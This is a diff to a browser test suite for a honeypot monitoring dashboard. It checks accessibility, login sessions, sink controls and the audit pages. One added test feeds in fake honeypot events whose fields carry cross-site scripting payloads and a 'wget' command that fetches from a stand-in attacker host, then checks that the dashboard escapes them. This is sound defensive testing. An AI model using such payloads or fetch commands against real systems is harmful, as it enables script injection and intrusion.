@@ -1,11 +1,14 @@
 // Looks at every page as people do: with a real browser, at three widths, in light and dark, by keyboard, and without JavaScript.
 // Arguments: address of the daemon, directory for screenshots, path of Chromium, JSON of what there is to see. Fails with what is wrong.
 import assert from "node:assert/strict";
+import { appendFileSync, readFileSync } from "node:fs";
+import { createRequire } from "node:module";
 import { chromium } from "playwright-core";
 
 const [base, screenshots, executablePath, seen] = process.argv.slice(2);
-// `stranger`: the daemon as somebody finds it who is not known to it.
-const { session, indicator, stranger } = JSON.parse(seen);
+// `stranger`: the daemon as somebody finds it who is not known to it; `key` lets them in. `followed`: a log that the daemon follows.
+const { session, indicator, stranger, key, followed } = JSON.parse(seen);
+const AXE = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
 
 const ARGS = [
   "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
@@ -22,6 +25,7 @@ const PAGES = {
   indicator: `/indicators/${encodeURIComponent(indicator)}`,
   sinks: "/sinks",
   sink: "/sinks/archive",
+  "sink-dead": "/sinks/siem",
   reports: "/reports",
   report: "/reports?kind=daily&period=last",
   audit: "/audit",
@@ -30,6 +34,17 @@ const PAGES = {
 const WIDTHS = [360, 768, 1440];
 
 const browser = await chromium.launch({ executablePath, args: ARGS });
+
+/** A line that a honeypot logs now. */
+const log = (event) => appendFileSync(followed, `${JSON.stringify({ sensor: "hive", src_ip: "203.0.113.99", timestamp: new Date().toISOString(), ...event })}\n`);
+
+/** Through the form, with the key. */
+const logIn = async (page, to = "/") => {
+  await page.goto(stranger + to);
+  await page.fill("#key", key);
+  await page.keyboard.press("Enter");
+  await page.waitForURL(stranger + to);
+};
 
 /** A page whose complaints are collected. */
 const open = async (options) => {
@@ -180,6 +195,10 @@ const checks = {
     assert.equal(await page.evaluate(() => document.activeElement.id), "main", "the link skips");
     await page.goto(`${base}/sinks`);
     let found = false;
+    await page.keyboard.press("Tab");
+    await page.keyboard.press("Tab");
+    const outline = await page.evaluate(() => getComputedStyle(document.activeElement).outlineStyle);
+    assert.notEqual(outline, "none", "where the keyboard is can be seen");
     for (let press = 0; press < 20 && !found; press += 1) {
       await page.keyboard.press("Tab");
       found = await page.evaluate(() => document.activeElement.matches("button[aria-label='Pause archive']"));
@@ -216,8 +235,104 @@ const checks = {
     await page.getByText("It goes on").waitFor();
     await page.goto(`${base}/audit`);
     await page.getByText("order: pause").first().waitFor();
+    await page.getByText("paused: false → true").first().waitFor();
     assert.deepEqual(complaints, []);
     await context.close();
+  },
+
+  async "somebody with a key logs in, sees an event come, reads its session, gives orders, and logs out"() {
+    const { context, page, complaints } = await open();
+    await logIn(page);
+    const cookie = (await context.cookies()).find(({ name }) => name === "honeyguide_session");
+    assert.ok(cookie.httpOnly && cookie.sameSite === "Strict", JSON.stringify(cookie));
+    await page.getByText("Live: new events appear on top.").waitFor();
+    const username = "<img src=x onerror=alert(1)>\u202eroot";
+    log({ eventid: "cowrie.session.connect", session: "11febeef" });
+    log({ eventid: "cowrie.login.success", session: "11febeef", username, password: "\"><script>alert(1)</script>" });
+    log({ eventid: "cowrie.command.input", session: "11febeef", input: "wget http://evil.top/<b>x</b>; echo done" });
+    const row = page.locator("#live-rows tr").filter({ hasText: "<img src=x onerror=alert(1)>\\u{202e}root" });
+    await row.first().waitFor();
+    assert.equal(await row.locator("img, script, b").count(), 0);
+    await page.locator("#live-rows tr").filter({ hasText: "wget http://evil.top/<b>x</b>" }).first().waitFor();
+    await page.screenshot({ path: `${screenshots}/overview-arrived.png` });
+    assert.deepEqual(await page.evaluate(() => window.violations), []);
+
+    // Whoever keeps the page open sees what happens to the state, without loading it again.
+    const other = await context.newPage();
+    await other.goto(`${stranger}/sinks`);
+    await other.getByRole("button", { name: "Pause archive" }).click();
+    await other.getByText("It is paused").waitFor();
+    await page.getByText("Sink archive is paused").waitFor();
+    assert.match(await page.title(), /^\(3\) Overview/);
+    await other.getByRole("button", { name: "Resume archive" }).click();
+    await other.getByText("It goes on").waitFor();
+    await other.close();
+    await page.getByText("Sink archive is paused").waitFor({ state: "detached" });
+
+    await page.fill("#query", `src_ip:203.0.113.99 since:1h`);
+    await page.keyboard.press("Enter");
+    await page.waitForURL(/\/search\?query=/);
+    assert.equal(await page.locator(".events tbody tr").count(), 3);
+    await page.locator(".events a[href='/sessions/11febeef']").first().click();
+    await page.waitForURL(/\/sessions\/11febeef/);
+    const steps = (await page.locator(".transcript li").allInnerTexts()).join("\n");
+    for (const part of ["LOGGED IN", "<img src=x onerror=alert(1)>\\u{202e}root", "wget"]) assert.ok(steps.includes(part), `${part} in ${steps}`);
+    assert.equal(await page.locator("main img, main script, main b").count(), 0);
+    await page.screenshot({ path: `${screenshots}/session-arrived.png` });
+
+    await page.goto(`${stranger}/sinks`);
+    await page.getByRole("button", { name: "Pause archive" }).click();
+    await page.waitForURL(`${stranger}/sinks/archive`);
+    await page.getByText("It is paused").waitFor();
+    await page.screenshot({ path: `${screenshots}/sink-paused.png` });
+    await page.reload();
+    assert.equal(await page.getByText("It is paused").count(), 0, "told once");
+    await page.getByRole("button", { name: "Resume archive" }).click();
+    await page.getByText("It goes on").waitFor();
+
+    await page.goto(`${stranger}/`);
+    await page.getByText("Sink siem has 1 dead letter").click();
+    await page.waitForURL(`${stranger}/sinks/siem`);
+    await page.getByRole("button", { name: "Deliver them again" }).click();
+    await page.getByText("All 1 arrived.").waitFor();
+    await page.getByText("refused nothing for good").waitFor();
+    await page.screenshot({ path: `${screenshots}/sink-delivered.png` });
+
+    await page.goto(`${stranger}/`);
+    assert.equal(await page.getByText("dead letter").filter({ hasText: "Sink siem" }).count(), 0, "it is no more");
+    await page.goto(`${stranger}/audit?kind=request`);
+    const retried = page.locator("tr").filter({ hasText: "/sinks/siem/retry" });
+    assert.match(await retried.innerText(), /laptop[^]*dead letters: 1 → 0/);
+    assert.equal(await page.getByText(key).count(), 0);
+    for (const [width, colorScheme] of [[360, "dark"], [768, "light"], [1440, "dark"]]) {
+      await page.setViewportSize({ width, height: 900 });
+      await page.emulateMedia({ colorScheme });
+      assert.ok((await page.evaluate(() => document.documentElement.scrollWidth)) <= width, `the audit at ${width}`);
+      await page.screenshot({ path: `${screenshots}/audit-changes-${width}.png`, fullPage: true });
+    }
+    await page.getByRole("button", { name: "Log out" }).click();
+    await page.waitForURL(`${stranger}/login`);
+    await page.goto(`${stranger}/audit`);
+    assert.equal(new URL(page.url()).pathname, "/login", "the session has ended");
+    assert.deepEqual(complaints, []);
+    await context.close();
+  },
+
+  async "nothing serious keeps anybody from using a page"() {
+    for (const [width, colorScheme] of [[1440, "light"], [360, "dark"]]) {
+      const { context, page } = await open({ colorScheme, viewport: { width, height: 900 } });
+      const found = [];
+      for (const [name, path] of Object.entries({ ...PAGES, login: `${stranger}/login` })) {
+        await page.goto(path.startsWith("http") ? path : base + path);
+        await page.evaluate(`${AXE}; undefined`);
+        const { violations } = await page.evaluate(() => axe.run(document, { resultTypes: ["violations"] }));
+        for (const { id, impact, nodes } of violations) {
+          if (["serious", "critical"].includes(impact)) found.push(`${name} at ${width}: ${id} (${impact}): ${nodes.slice(0, 3).map(({ html }) => html.slice(0, 120))}`);
+        }
+      }
+      assert.deepEqual(found, []);
+      await context.close();
+    }
   },
 
   async "live events appear as text"() {
@@ -271,7 +386,21 @@ const checks = {
     await page.getByRole("button", { name: "Pause archive" }).click();
     await page.getByRole("button", { name: "Resume archive" }).click();
     await page.getByText("It goes on").waitFor();
+    await page.getByRole("button", { name: "Test" }).click();
+    await page.getByText("would take deliveries").waitFor();
+    await page.goto(`${base}/indicators`);
+    await page.locator("main table a").first().click();
+    await page.waitForURL(/\/indicators\/./);
+    await page.goto(`${base}/reports?kind=daily&period=last`);
+    assert.ok((await page.locator("main svg").count()) > 0, "charts are the server's");
+    await page.goto(`${base}/audit`);
+    assert.ok((await page.locator(".events tbody tr").count()) > 0);
     await context.close();
+    const other = await open({ javaScriptEnabled: false });
+    await logIn(other.page, "/sinks");
+    await other.page.getByRole("button", { name: "Log out" }).click();
+    await other.page.waitForURL(`${stranger}/login`);
+    await other.context.close();
   },
 };
 
